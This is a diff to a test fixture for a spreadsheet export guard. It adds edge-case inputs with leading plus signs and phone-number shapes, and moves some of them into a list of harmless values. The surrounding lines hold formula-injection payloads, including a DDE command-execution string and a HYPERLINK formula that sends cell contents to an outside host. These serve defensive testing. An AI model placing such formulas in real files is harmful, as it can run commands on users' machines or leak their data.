@@ -11,7 +11,9 @@ import { bindAll, createGiven, type Columns, type GivenRow } from '../support/gi
 /** Spreadsheet tricks of OWASP and others; every one must come out guarded. */
 export const formulas = [
   '=1+1',
-  '+1',
+  '+1+1',
+  '+1\n',
+  '+',
   '-1',
   '@SUM(A1)',
   '\t=1',
@@ -38,7 +40,20 @@ export const formulas = [
   ' ＝cmd',
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://example.org?"&A1,"click")',
-  '+34 600 000 000',
+  '+34-1',
+  '+34 600-000-000',
+  '+(34) 600',
+  '+34(1)',
+  '+34  600',
+  '+34 600 ',
+  '+34 600\n=1+1',
+  '+34\u00a0600',
+  '+34.5',
+  '+34/7',
+  '+ 34',
+  ' +34 600',
+  '++34',
+  '-34 600',
 ];
 
 /** Text that is hard on files, but runs nowhere; it must come out as it went in. */
@@ -56,6 +71,9 @@ export const harmless = [
   '\u2028\u2029',
   '\u202eabc',
   '1=2',
+  '+1',
+  '+34 000 043 747',
+  '+34600000000',
   'a@b.eus',
   'x'.repeat(10_000),
 ];
